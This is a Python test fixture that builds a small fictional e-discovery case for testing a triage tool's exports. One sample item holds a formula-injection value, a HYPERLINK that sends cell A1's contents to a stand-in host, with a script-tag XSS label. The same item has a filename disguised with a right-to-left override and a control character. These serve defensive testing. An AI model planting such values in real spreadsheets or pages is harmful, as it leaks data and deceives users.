"""A small case in memory for the tests of the export: fictional people, hostile names, three scripts."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Callable, Iterator, Sequence
from typing import BinaryIO

from msgspec.structs import replace

from triage.export.collect import Collector
from triage.export.contract import Order, Report
from triage.messages import plain
from triage.model.items import Decision, Item, ItemId, ItemNo, Problem, Row, Segment, Span, Status, Trouble
from triage.model.redactions import MarkedPassage
from triage.proof.keys import LoginKeys
from triage.scope.policy import Allow, Deny, Policy

HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"<script>alert(1)</script>")'
HEBREW = "הצעה לפרויקט כחול 2024"
ARABIC = "ملاحظات حول المشروع"

PROBLEM = Problem("encrypted", plain("offer.zip needs a password."), "not", "mail/9.eml", ItemId("f" * 20))

ORDER = Order(
    case="Bluebird",
    reviewer="Dana Levi",
    query="tag:relevant",
    reading="items tagged relevant",
    policy=Policy(
        "Suspected bid rigging",
        "General Counsel, 2 May 2024",
        (Allow("mail", "/nowhere/evidence", "Avi Cohen", "employment contract"),),
        (Deny("customers", "customer-data/**", "belongs to customers"),),
    ),
    status=Status("Bluebird", "fts5", 12, 9, 1, 2, 30, 4, 27, 2, 1, 3, 5, (("relevant", 3),), (), (), ""),
    not_searchable=1,
    partly=2,
    problems=(PROBLEM, PROBLEM, Problem("charset-guessed", plain("It was guessed."), "fully", "mail/8.eml")),
    ledger_head="1" * 64,
    audit_head="a" * 64,
    created="2024-05-03T09:30:00+00:00",
    version="0.1.0",
)


class Records:
    """A Desk over a few items; natives are kept beside them."""

    def __init__(self) -> None:
        self.stored: dict[ItemNo, Item] = {}
        self.versions = {"triage": "0.1.0"}
        self.originals: dict[ItemNo, bytes | Trouble] = {}
        self.messages: dict[ItemNo, bytes | Trouble] = {}
        self.said: dict[ItemNo, list[Decision]] = {}
        self.marked: dict[ItemNo, list[MarkedPassage]] = {}
        self.hits: dict[ItemNo, list[Span]] = {}
        self.copied: dict[ItemNo, int] = {}

    def add(self, data: bytes, parent: ItemNo | None = None, tags: tuple[str, ...] = (), **fields: str) -> ItemNo:
        """Add an item; fields are those of Row or Item, ``text`` is its body."""
        no = ItemNo(len(self.stored) + 1)
        digest = hashlib.sha256(data).hexdigest()
        row = Row(
            no=no,
            id=ItemId(hashlib.sha256(f"{no}".encode()).hexdigest()[:20]),
            date=fields.get("date", "2024-05-01T08:00:00Z"),
            sender=fields.get("sender", "Avi Cohen <avi@bluebird.example>"),
            subject=fields.get("subject", f"Subject {no}"),
            name=fields.get("name", f"{no}.eml"),
            type=fields.get("type", "message/rfc822"),
            custodian="Avi Cohen",
            size=len(data),
            path=fields.get("path", f"inbox/{no}.eml"),
            attachments=0,
            parent=parent,
            searchable="fully",
            tags=tags,
            doubtful=fields.get("date_kind", "").endswith("-doubtful"),
        )
        self.stored[no] = Item(
            row=row,
            root="mail",
            path=row.path,
            member=fields.get("member", ""),
            sha256=digest,
            mih="",
            digest=digest,
            family=self.stored[parent].family if parent else no,
            thread="",
            to=("Noa <noa@bluebird.example>",),
            cc=(),
            bcc=(),
            date_raw="Wed, 1 May 2024 11:00:00 +0300",
            date_kind="sent",
            message_id=f"<{no}@bluebird.example>",
            references=(),
            properties=(),
            segments=(Segment("body", fields.get("text", "Please keep this quiet.")),),
            problems=(),
        )
        self.originals[no] = data
        self.said[no] = [
            Decision(no * 10 + at, row.id, "tag", tag, "Dana Levi", "2024-05-02T10:00:00Z", "key", no)
            for at, tag in enumerate(tags)
        ]
        return no

    def change(self, no: ItemNo, **fields: object) -> None:
        """Replace fields of an item."""
        self.stored[no] = replace(self.stored[no], **fields)  # type: ignore[arg-type]

    def items(self, nos: Sequence[ItemNo]) -> Iterator[Item]:
        return (self.stored[no] for no in nos)

    def rows(self, nos: Sequence[ItemNo]) -> list[Row]:
        return [self.stored[no].row for no in nos]

    def places(self, nos: Sequence[ItemNo]) -> list[tuple[str, str, str]]:
        return [(item.root, item.path, item.member) for item in (self.stored[no] for no in nos)]

    def decisions(self, no: ItemNo) -> list[Decision]:
        return self.said[no]

    def passages(self, no: ItemNo) -> list[MarkedPassage]:
        return self.marked.get(no, [])

    def family(self, no: ItemNo) -> list[ItemNo]:
        return [other for other, item in self.stored.items() if item.family == self.stored[no].family]

    def duplicates(self, no: ItemNo) -> list[ItemNo]:
        alike = [other for other, item in self.stored.items() if item.digest == self.stored[no].digest]
        return [other for other in alike if other == no or not self.stored[other].row.state]

    def copy_keys(self, nos: Sequence[ItemNo]) -> list[int]:
        return [self.copied.get(no, no) for no in nos]

    def spans(self, text: str, item: Item) -> list[Span]:
        return self.hits.get(item.row.no, [])

    def natives(self, items: Sequence[Item]) -> Iterator[bytes | Trouble]:
        return (self.originals[item.row.no] for item in items)

    def sign(self, kind: str, digest: str) -> bytes:
        return LoginKeys.of_login().secret("dana").sign_digest("c" * 64, kind, digest)

    def renditions(self, items: Sequence[tuple[Item, bytes]]) -> Iterator[bytes | Trouble]:
        for item, data in items:
            assert data == self.originals[item.row.no]
            yield self.messages.get(item.row.no, Trouble("damaged", plain("It is broken.")))


def sample() -> Records:
    """Five items: a mail with an attachment, its duplicate in another mailbox, a Hebrew one, a hostile one."""
    records = Records()
    mail = records.add(b"Subject: one\r\n\r\nbody", tags=("relevant",), date="2024-05-01T08:00:00Z")
    records.add(
        b"%PDF-1.7",
        parent=mail,
        tags=("relevant", "hot"),
        name="offer.pdf",
        type="application/pdf",
        member="0",
        path="inbox/1.eml",
        date="",
    )
    records.add(b"Subject: one\r\n\r\nbody", path="archive/x.eml")
    records.add(
        HEBREW.encode(), tags=("relevant",), subject=HEBREW, text=f"{ARABIC}\n{HEBREW}", date="2024-04-01T08:00:00Z"
    )
    records.add(
        b"x",
        tags=("relevant",),
        subject=HOSTILE,
        sender="@evil <e@x.invalid>",
        name="invoice\u202efdp.exe",
        text=f"{HOSTILE} \x07",
        date="2024-06-01T08:00:00Z",
    )
    return records


def report_of(records: Records, nos: Sequence[ItemNo] | None = None, order: Order = ORDER) -> Report:
    """Return the report on these items, by default on all."""
    chosen = [no for no in records.stored if nos is None or no in nos]
    collector = Collector(records, chosen, order.query)
    numbered = enumerate(collector.order(chosen), 1)
    return Report(order, tuple(collector.dossier(n, records.stored[no]) for n, no in numbered))


def written(write: Callable[[BinaryIO, Report], None], report: Report) -> bytes:
    out = io.BytesIO()
    write(out, report)
    return out.getvalue()


CHOSEN = [ItemNo(5), ItemNo(2), ItemNo(4), ItemNo(1)]
EXPECTED_ORDER = [4, 1, 2, 5]
